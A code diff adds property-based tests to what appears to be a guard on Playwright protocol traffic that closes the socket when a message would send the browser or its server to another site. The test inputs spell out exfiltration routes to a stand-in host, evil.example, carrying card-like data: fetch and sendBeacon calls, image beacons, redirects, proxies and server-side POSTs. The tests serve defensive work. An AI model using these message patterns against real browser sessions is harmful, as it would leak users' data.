@@ -301,3 +301,53 @@ t.test('control: an intercepted request answered or continued on the allowed sit
   ];
   t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
 });
+
+// Playwright's own protocol over a Playwright server's WebSocket (`chromium.connect(wsEndpoint)` to
+// `playwright run-server`, Browserless, a cloud grid; twentieth pass): `{id, guid, method, params,
+// metadata}` with methods such as `goto` and `evaluateExpression`, which name no CDP domain, so the
+// whole socket was relayed undecided. Each message is now read as the CDP commands it becomes.
+const pw = (guid: string, method: string, params: unknown, id = 3): string => JSON.stringify({ id, guid, method, params, metadata: { wallTime: 1765000000000, apiName: 'page.goto', internal: false } });
+const pwSpellings: Record<string, (url: string) => string> = {
+  'frame.goto': (url) => pw('frame@3c1f0d6a8f', 'goto', { url, waitUntil: 'load', timeout: 30000 }),
+  'page.evaluate with the URL an argument': (url) => pw('frame@3c1f0d6a8f', 'evaluateExpression', { expression: '(u) => fetch(u)', isFunction: true, arg: { value: { s: url }, handles: [] } }),
+  'page.setContent': (url) => pw('frame@3c1f0d6a8f', 'setContent', { html: `<img src="${url}">`, waitUntil: 'load' }),
+  'context.addInitScript': (url) => pw('browser-context@9a2b', 'addInitScript', { source: `navigator.sendBeacon('${url}')` }),
+  'page.addScriptTag': (url) => pw('frame@3c1f0d6a8f', 'addScriptTag', { url }),
+  'route.continue elsewhere': (url) => pw('route@77aa', 'continue', { url, isFallback: false }),
+  'route.fulfill with a redirect': (url) => pw('route@77aa', 'fulfill', { status: 302, headers: [{ name: 'location', value: url }] }),
+  'request.get (the server fetches)': (url) => pw('request-context@5e', 'fetch', { url, method: 'GET', timeout: 30000 }),
+  'browser.newContext with a proxy': (url) => pw('browser@11', 'newContext', { proxy: { server: new URL(url).origin }, viewport: { width: 1280, height: 720 } }),
+  'context.addCookies': (url) => pw('browser-context@9a2b', 'addCookies', { cookies: [{ name: 'd', value: '4111', url }] }),
+};
+
+t.test('a Playwright protocol message that has the browser (or its server) reach another site closes the socket, in every spelling', async (t) => {
+  const targets = ['https://evil.example/c?d=4111111111111111', 'http://4111.evil.example/p'];
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...Object.keys(pwSpellings)), fc.constantFrom(...targets), async (how, url) => {
+    const s = await session([pw('browser-type@1', 'initialize', {}, 1), pwSpellings[how]!(url)], [], 'browser.example');
+    return s.code === 1008 && !ranText().includes('evil');
+  }), { numRuns: FUZZ_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }), examples: Object.keys(pwSpellings).map((k) => [k, 'https://evil.example/c?d=4111111111111111'] as [string, string]) });
+  for (const msg of [
+    // A write the server would send.
+    pw('request-context@5e', 'fetch', { url: 'https://docs.example/api', method: 'POST', postData: Buffer.from('4111').toString('base64') }),
+    pw('frame@3c1f0d6a8f', 'goto', { url: '//evil.example/?d=4111' }),
+    pw('browser-type@1', 'launch', { args: ['--proxy-server=evil.example:8080'], headless: true }),
+    pw('browser@11', 'newContext', { proxy: { server: 'socks5://evil.example:1080' } }),
+  ]) t.equal((await session([msg], [], 'browser.example')).code, 1008, msg.slice(0, 90));
+  t.notOk(ranText().includes('evil'), 'nothing of another site reached the server');
+});
+
+t.test('control: Playwright traffic on the allowed site goes on (a goto, a relative goto, evaluate, a GET through the server, a context with a base URL)', async (t) => {
+  const msgs = [
+    pw('playwright@1', 'initialize', { sdkLanguage: 'javascript' }, 1),
+    pw('browser@11', 'newContext', { baseURL: 'https://docs.example/', viewport: { width: 1280, height: 720 } }),
+    pw('frame@3c1f0d6a8f', 'goto', { url: 'https://docs.example/guide?page=2', waitUntil: 'load' }),
+    pw('frame@3c1f0d6a8f', 'goto', { url: '/guide/intro', waitUntil: 'load' }),
+    pw('frame@3c1f0d6a8f', 'evaluateExpression', { expression: '() => document.title', isFunction: true, arg: { value: { v: 'undefined' }, handles: [] } }),
+    pw('request-context@5e', 'fetch', { url: 'https://docs.example/api/search', params: [{ name: 'q', value: 'playwright' }], method: 'GET' }),
+    pw('frame@3c1f0d6a8f', 'click', { selector: 'internal:role=button[name="Next"i]', strict: true }),
+  ];
+  t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
+  // The URL judged is the one the server sends: its query parameters added (a served link with
+  // `d=<data>` added is another link to the browse rule).
+  t.ok(a.records.some((r) => r.method === 'GET' && r.url === 'https://docs.example/api/search?q=playwright'), 'the fetch is judged with its parameters');
+});
